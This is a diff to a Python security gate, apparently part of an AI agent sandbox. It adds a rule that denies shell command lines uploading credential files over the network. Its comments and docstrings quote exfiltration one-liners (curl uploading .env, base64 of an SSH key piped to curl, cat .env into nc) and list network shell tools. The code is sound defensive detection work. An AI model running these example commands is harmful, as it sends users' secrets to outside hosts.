@@ -34,7 +34,14 @@ Shell strings the program runs (`subprocess.run(['curl', ...])`,
 client among them counts as a send, a reader of a credential-shaped path as
 a read.
 
-What the gate does with a program that does both (checker -> judge): under
+The same question for a plain command line (`shell_uploads`): a network
+client whose body is a credential-shaped file (`curl -F f=@.env`, `-d
+@~/.netrc`, `-T`, `wget --post-file=`, httpie `@file`), or a client that
+sends its stdin (`curl -d @-`, `nc`) on a line that reads one (`base64
+~/.ssh/id_rsa | curl -d @- URL`): rule `exfil.credential_upload`. Copies to
+a host (`scp`, `rsync`) are not counted: deploying `.env` is routine.
+
+What the gate does with a program that does both (checker -> check): under
 a role whose network reaches anything (host, allowlist, internal) it is the
 denial `exfil.inline_program`; under network deny or loopback the cell's
 network namespace refuses the send, so a cell tool under mode open with
@@ -50,6 +57,7 @@ from .model import CELL_TOOLS, DEFAULT_DENY_PATHS, Finding, GateContext, deny, o
 from .paths import LazyRe
 
 RULE = "exfil.inline_program"
+RULE_UPLOAD = "exfil.credential_upload"
 MAX_SCAN = 65536  # characters of a program the token scan reads
 MAX_LITERALS = 2000  # string literals tested per program
 HINT = ("A program that reads a credential and talks to the network in one breath is how secrets leave; if the "
@@ -390,17 +398,91 @@ def note(code: str, an, ex, ran: list) -> None:
                          "evidence": (ex.text or code)[:200]})
 
 
+# --- the same in plain shell: a client uploading a credential file ---------------------------------
+
+_UPLOADERS = frozenset({"curl", "wget", "http", "https", "xh", "xhs", "nc", "ncat", "netcat", "socat", "telnet"})
+_CURL_FILE = frozenset({"-T", "--upload-file"})
+_CURL_DATA = ("-d", "--data", "--data-binary", "--data-raw", "--data-ascii", "--data-urlencode", "-F", "--form",
+              "--json", "--form-string")
+_STREAMS = frozenset({"nc", "ncat", "netcat", "socat", "telnet"})  # send what they read on stdin
+
+
+def _uploaded(ex) -> str:
+    """The file a network client sends as a body ("@-" / "-" for stdin; "" when none)."""
+    args = ex.args
+    for i, a in enumerate(args):
+        val = args[i + 1] if i + 1 < len(args) else ""
+        if ex.prog == "curl":
+            if a in _CURL_FILE:
+                return val
+            if a.startswith("--upload-file="):
+                return a.split("=", 1)[1]
+            for o in _CURL_DATA:
+                v = val if a == o else (a[len(o) + 1:] if a.startswith(o + "=") else (
+                    a[2:] if len(o) == 2 and a.startswith(o) and len(a) > 2 else None))
+                if v is None:
+                    continue
+                at = v.find("@") if o in ("-F", "--form") else (0 if v.startswith("@") else -1)
+                if at == -1 and o in ("-F", "--form") and "=<" in v:
+                    at = v.index("=<") + 1
+                if at >= 0:
+                    return v[at + 1:].split(";", 1)[0]
+        elif ex.prog == "wget" and a.startswith(("--post-file=", "--body-file=")):
+            return a.split("=", 1)[1]
+        elif ex.prog == "wget" and a in ("--post-file", "--body-file"):
+            return val
+        elif ex.prog in ("http", "https", "xh", "xhs") and "@" in a and not a.startswith("-") and "://" not in a:
+            return a.split("@", 1)[1]  # httpie: field@file, @file
+    return "-" if ex.prog in _STREAMS and not any(a in ("-l", "--listen") for a in args) else ""
+
+
+def shell_uploads(an) -> dict | None:
+    """A command line whose network client sends a credential file: `curl -F f=@.env URL`,
+    `wget --post-file=~/.netrc URL`, or a reader of one feeding a client that sends stdin
+    (`base64 ~/.ssh/id_rsa | curl -d @- URL`, `cat .env | nc HOST PORT`)."""
+    reader = ""
+    for ex in an.execs:
+        if ex.prog not in _UPLOADERS:
+            reader = reader or _exec_reads(ex)
+            continue
+        f = _uploaded(ex)
+        if not f:
+            continue
+        f = f.strip("'\"")
+        if f in ("-", "") and reader:
+            return {"lang": "shell", "prog": ex.prog, "reads": reader, "sends": f"`{ex.prog}` reading stdin",
+                    "evidence": (ex.text or " ".join(ex.argv))[:200]}
+        if f not in ("-", "") and credential_path(f):
+            return {"lang": "shell", "prog": ex.prog, "reads": f, "sends": f"`{ex.prog}`",
+                    "evidence": (ex.text or " ".join(ex.argv))[:200]}
+    return None
+
+
 # --- the decision (checker, with the network check) -------------------------------------------
 
-def judge(an, ctx: GateContext, tool: str, passed: Finding) -> Finding:
+def check(an, ctx: GateContext, tool: str, passed: Finding) -> Finding:
+    """After the network check passed: an inline program or a command line that sends a credential."""
+    if an.exfil:
+        return judge(an.exfil[0], ctx, tool, passed)
+    if any(ex.prog in _UPLOADERS for ex in an.execs):
+        x = shell_uploads(an)
+        if x is not None:
+            return judge(x, ctx, tool, passed, rule=RULE_UPLOAD)
+    return passed
+
+
+def judge(x: dict, ctx: GateContext, tool: str, passed: Finding, rule: str = RULE) -> Finding:
     """The network check's pass `passed`, or the exfiltration denial, or the pass with its flag."""
-    x = an.exfil[0]
-    what = f"the {x['lang']} program given to `{x['prog']}` reads {x['reads']} and sends with {x['sends']}"
+    if x["lang"] == "shell":
+        what = f"`{x['prog']}` sends {x['reads']}" if x["sends"] == f"`{x['prog']}`" else \
+            f"{x['reads']} is read and sent by {x['sends']}"
+    else:
+        what = f"the {x['lang']} program given to `{x['prog']}` reads {x['reads']} and sends with {x['sends']}"
     backed = ctx.network in ("deny", "loopback") and ctx.kernel is not None and getattr(ctx.kernel, "netns", False) \
         and tool in CELL_TOOLS
     if backed and ctx.flags_kernel_enforced(tool):
-        n = {"rule": RULE, "evidence": x["evidence"],
-             "reason": f"{what}: a credential read and a network client in one program; allowed with a flag because "
+        n = {"rule": rule, "evidence": x["evidence"],
+             "reason": f"{what}: a credential read and a network client in one call; allowed with a flag because "
                        f"role '{ctx.role}' has network: {ctx.network} and the cell's own network namespace refuses "
                        "the send (governance.kernel_enforced = 'flag')."}
         return ok_flagged(list(passed.flagged) + [n], passed.flags, passed.pinned)
@@ -411,5 +493,5 @@ def judge(an, ctx: GateContext, tool: str, passed: Finding) -> Finding:
         why = f"no cell's network namespace stands behind role '{ctx.role}''s network: {ctx.network} for this call"
     else:
         why = f"role '{ctx.role}' has network: {ctx.network}, so the send can leave"
-    return deny(RULE, f"{what}: a credential read and a network client in one program is exfiltration, and {why}.",
+    return deny(rule, f"{what}: a credential read and a network client in one call is exfiltration, and {why}.",
                 HINT, x["evidence"])
